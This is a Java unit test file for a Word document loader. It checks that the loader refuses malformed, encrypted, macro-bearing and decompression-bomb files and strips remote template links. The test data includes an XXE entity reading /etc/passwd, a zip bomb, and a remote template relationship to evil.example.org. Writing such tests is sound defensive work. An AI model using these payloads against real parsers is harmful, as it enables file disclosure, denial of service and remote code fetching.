package org.jalousie.core.wording;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;

class WordFileTest {
    private static byte[] with(String part, String content) {
        Map<String, byte[]> parts = new LinkedHashMap<>(
                WordFile.open(new WordDraft().paragraph("x").bytes()).parts());
        parts.put(part, content.getBytes(StandardCharsets.UTF_8));
        return WordFile.zip(parts);
    }

    private static void refused(byte[] file, String... words) {
        assertThatThrownBy(() -> WordFile.open(file))
                .isInstanceOf(UnacceptableFile.class)
                .hasMessageContainingAll(words);
    }

    @Test
    void whatIsNoWordFileIsRefusedWithWhatToDo() {
        refused("just text".getBytes(StandardCharsets.UTF_8), "not a Word file", "Save");
        refused(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 0, 0, 0, 0, 0}, "password", ".docx");
        refused(WordFile.zip(Map.of("a.txt", new byte[3])), "not a Word file");
        byte[] whole = new WordDraft().paragraph("x").bytes();
        assertThatThrownBy(() -> WordFile.open(java.util.Arrays.copyOf(whole, whole.length / 3)))
                .isInstanceOf(UnacceptableFile.class);
    }

    @Test
    void aDocumentTypeIsRefused() {
        refused(
                with("word/document.xml", "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w>&x;</w>"),
                "document type",
                "word/document.xml");
    }

    @Test
    void macrosAreRefused() {
        refused(with("word/vbaProject.bin", "x"), "macros");
    }

    @Test
    void aFileThatUnpacksToTooMuchIsRefusedBeforeItFillsTheMemory() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            byte[] zeros = new byte[1 << 20];
            zip.putNextEntry(new ZipEntry("word/document.xml"));
            for (int i = 0; i < 300; i++) zip.write(zeros);
        }
        assertThat(out.size()).isLessThan(1 << 20);
        refused(out.toByteArray(), "200 MB");
    }

    @Test
    void relationshipsThatWouldFetchSomethingAreCutAndLinksStay() {
        String rels = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"a\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example.org/t.dotm\" TargetMode=\"External\"/>"
                + "<Relationship Id=\"b\" Type=\"http://x/hyperlink\" Target=\"http://www.example.org\" TargetMode=\"External\"/></Relationships>";
        String kept = new String(
                WordFile.open(with("word/_rels/settings.xml.rels", rels))
                        .parts()
                        .get("word/_rels/settings.xml.rels"),
                StandardCharsets.UTF_8);
        assertThat(kept).doesNotContain("evil").contains("www.example.org");
    }
}
